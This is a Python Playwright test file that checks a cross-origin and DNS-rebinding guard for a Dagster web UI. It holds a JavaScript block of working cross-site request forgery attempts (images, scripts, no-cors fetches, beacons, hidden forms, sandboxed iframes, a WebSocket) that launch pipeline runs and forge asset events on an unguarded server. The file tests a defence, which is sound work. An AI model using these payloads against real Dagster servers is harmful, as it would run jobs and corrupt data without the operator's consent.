"""A page of another origin, in a real browser, tries to launch a run on the UI. Without the guard it succeeds."""

import json
import shutil
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import dagster as dg
import pytest
from live import Live
from paths import ROOT
from playwright.sync_api import Browser, Page, sync_playwright

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="NO BROWSER: install chromium; else no real one tries the guard"),
]

LAUNCH = """mutation { launchPipelineExecution(executionParams: { mode: "default", runConfigData: {},
    executionMetadata: { tags: [{ key: "way", value: "%s" }] }, selector: { jobName: "sync",
    repositoryLocationName: "gristmill", repositoryName: "__repository__" } }) { __typename } }"""
FORGED = "sources/letters/v0/documents"


LAUNCHING = {"image", "script", "get", "typed", "post", "beacon", "form", "form-text", "multipart", "sandbox"}
"""The ways that launch a run on Dagster's own web server. The others fail there too, and are tried nevertheless."""


def launch(way: str) -> str:
    return LAUNCH % way


class Site:
    """Another site on this machine: one empty page."""

    def __init__(self) -> None:
        class Answers(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<!doctype html><title>kittens</title><body>kittens</body>")

            def log_message(self, *words: object) -> None:
                """Says nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
        self.port = self._server.server_port
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class BareLive(Live):
    """The same over Dagster's own web server, without the guard."""

    def command(self) -> list[str]:
        return [sys.executable, "-m", "dagster_webserver", "-w", str(ROOT / "workspace.yaml"), "-h", "127.0.0.1"]


@contextmanager
def running(folder: Path, *, guarded: bool) -> Iterator[Live]:
    (folder / "lake").mkdir(parents=True)
    live = (Live if guarded else BareLive)(folder, str(folder / "lake"), daemon=False)
    try:
        live.wait(
            lambda: bool(
                live.ask("{ repositoriesOrError { ... on RepositoryConnection { nodes { name } } } }")[
                    "repositoriesOrError"
                ].get("nodes")
            ),
            "the code",
        )
        yield live
    finally:
        live.close()


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    with running(tmp_path_factory.mktemp("guarded"), guarded=True) as live:
        yield live


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    names = "--host-resolver-rules=MAP evil.example 127.0.0.1"
    with sync_playwright() as driver:
        found = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", names])
        yield found
        found.close()


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    made = Site()
    yield made
    made.close()


ATTACKS = """async ({ui, queries, forged, check}) => {
  const url = (way) => `${ui}/graphql?query=${encodeURIComponent(queries[way])}`;
  const body = (way) => JSON.stringify({query: queries[way]});
  const quiet = (promise) => promise.then(() => "sent", (error) => String(error));
  const loaded = (element) => new Promise((done) => {
    element.onload = element.onerror = () => done(element.tagName);
    setTimeout(() => done("late"), 8000);
    document.body.append(element);
  });
  const frame = (name, sandbox) => {
    const made = Object.assign(document.createElement("iframe"), {name});
    if (sandbox) made.sandbox = sandbox;
    return made;
  };
  const form = (target, action, enctype, name, value) => {
    const made = Object.assign(document.createElement("form"), {target, action, method: "POST", enctype});
    const field = Object.assign(document.createElement("input"), {name, value, type: "hidden"});
    made.append(field);
    document.body.append(made);
    const frame = document.querySelector(`iframe[name=${target}]`);
    const done = new Promise((go) => { frame.onload = go; setTimeout(go, 8000); });
    made.submit();
    return done;
  };
  document.body.append(frame("urls"), frame("texts"), frame("files"));
  const said = {
    image: await loaded(Object.assign(new Image(), {src: url("image")})),
    script: await loaded(Object.assign(document.createElement("script"), {src: url("script")})),
    get: await quiet(fetch(url("get"), {mode: "no-cors"})),
    text: await quiet(fetch(`${ui}/graphql`, {mode: "no-cors", method: "POST", body: body("text")})),
    typed: await quiet(fetch(`${ui}/graphql`, {mode: "no-cors", method: "POST", body: body("typed"),
      headers: {"Content-Type": "text/plain; application/json"}})),
    post: await quiet(fetch(url("post"), {mode: "no-cors", method: "POST"})),
    cors: await quiet(fetch(`${ui}/graphql`, {method: "POST", body: body("cors"),
      headers: {"Content-Type": "application/json"}})),
    beacon: navigator.sendBeacon(url("beacon"), ""),
    forged: await quiet(fetch(`${ui}${forged}`, {mode: "no-cors", method: "POST"})),
    check: await quiet(fetch(`${ui}${check}`, {mode: "no-cors", method: "POST"})),
  };
  await form("urls", url("form"), "application/x-www-form-urlencoded", "a", "b");
  await form("texts", `${ui}/graphql?query=${encodeURIComponent(queries["form-text"])}`, "text/plain", "a", "b");
  await form("files", url("multipart"), "multipart/form-data", "a", "b");
  const inner = `<form method=POST action="${url("sandbox")}"></form><script>document.forms[0].submit()</scr` + `ipt>`;
  await loaded(Object.assign(frame("sandboxed", "allow-scripts allow-forms"), {srcdoc: inner}));
  said.frame = await loaded(Object.assign(frame("navigated"), {src: url("frame")}));
  said.socket = await new Promise((done) => {
    const wire = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
    wire.onopen = () => {
      wire.send(JSON.stringify({type: "connection_init"}));
      wire.send(JSON.stringify({type: "start", id: "1", payload: {query: queries.socket}}));
    };
    wire.onmessage = () => done("open");
    wire.onerror = () => done("refused");
    setTimeout(() => done("late"), 8000);
  });
  return said;
}"""
WAYS = (
    *("image", "script", "get", "text", "typed", "post", "cors", "beacon", "form", "form-text", "multipart"),
    *("sandbox", "frame", "socket"),
)


def attack(page: Page, ui: str) -> dict[str, Any]:
    """Tries everything from the page that is open; what its script saw."""
    report = f"/report_asset_materialization/{FORGED}?partition=forged"
    check = f"/report_asset_check/{FORGED}?check_name=ids_unique&passed=true"
    told = {"ui": ui, "queries": {way: launch(way) for way in WAYS}, "forged": report, "check": check}
    said: dict[str, Any] = page.evaluate(ATTACKS, told)
    page.wait_for_timeout(500)  # a form in a sandbox tells nobody that it was sent
    page.goto(f"{ui}/graphql?query={quote(launch('link'))}", wait_until="commit")
    return said


def launched(live: Live) -> set[str]:
    """The ways by which runs were launched."""
    return {tag["value"] for run in live.runs() for tag in run["tags"] if tag["key"] == "way"}


def forged(live: Live) -> list[str]:
    """The events that were reported without a run."""
    with dg.DagsterInstance.from_config(str(live.home)) as instance:
        return [log.dagster_event_type.name for log in instance.all_logs("") if log.dagster_event_type]


@pytest.mark.exhaustive
def test_without_the_guard_a_page_launches_runs(browser: Browser, site: Site, tmp_path: Path) -> None:
    with running(tmp_path, guarded=False) as live:
        page = browser.new_page()
        page.goto(f"http://localhost:{site.port}/")
        said = attack(page, f"http://127.0.0.1:{live.port}")
        live.wait(lambda: launched(live) >= LAUNCHING, f"what {LAUNCHING} launch: {said}", 60)
        assert {"ASSET_MATERIALIZATION", "ASSET_CHECK_EVALUATION"} <= set(forged(live))
        assert said["socket"] == "open"  # it could read all events


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1", "evil.example"])
def test_no_page_of_another_origin_launches_a_run(browser: Browser, site: Site, guarded: Live, name: str) -> None:
    page = browser.new_page()
    page.goto(f"http://{name}:{site.port}/")
    said = attack(page, f"http://127.0.0.1:{guarded.port}")
    assert said["socket"] == "refused"
    assert (launched(guarded), forged(guarded)) == (set(), [])


def test_a_name_that_was_bound_anew_is_not_the_ui(browser: Browser, guarded: Live) -> None:
    page = browser.new_page()
    rebound = f"http://evil.example:{guarded.port}"
    answer = page.goto(rebound)
    assert answer is not None
    assert answer.status == 421
    ask = "([url, body]) => fetch(url, {method: 'POST', body, headers: {'Content-Type': 'application/json'}})"
    body = json.dumps({"query": launch("rebound")})
    assert page.evaluate(f"{ask[:-1]}).then((answer) => answer.status)", [f"{rebound}/graphql", body]) == 421
    assert launched(guarded) == set()


def test_the_ui_itself_works_behind_the_guard(browser: Browser, guarded: Live, tmp_path: Path) -> None:
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    refused: list[str] = []
    page.on("response", lambda answer: refused.append(answer.url) if 400 <= answer.status < 500 else None)
    wires: list[Any] = []
    page.on("websocket", lambda wire: wires.append(wire))  # noqa: PLW0108 - playwright sets attributes on it
    page.goto(f"http://127.0.0.1:{guarded.port}/asset-groups")
    page.get_by_text("letters").first.wait_for(timeout=120_000)
    page.goto(f"http://127.0.0.1:{guarded.port}/locations/gristmill/jobs/sync/playground")
    page.get_by_role("button", name="Launch").first.click(timeout=120_000)
    guarded.wait(lambda: bool(guarded.runs(pipelineName="sync")), "the run that a person launched", 60)
    page.wait_for_timeout(1000)
    page.screenshot(path=tmp_path / "ui.png")
    assert refused == []
    assert wires
    assert not any(wire.is_closed() for wire in wires[-1:])
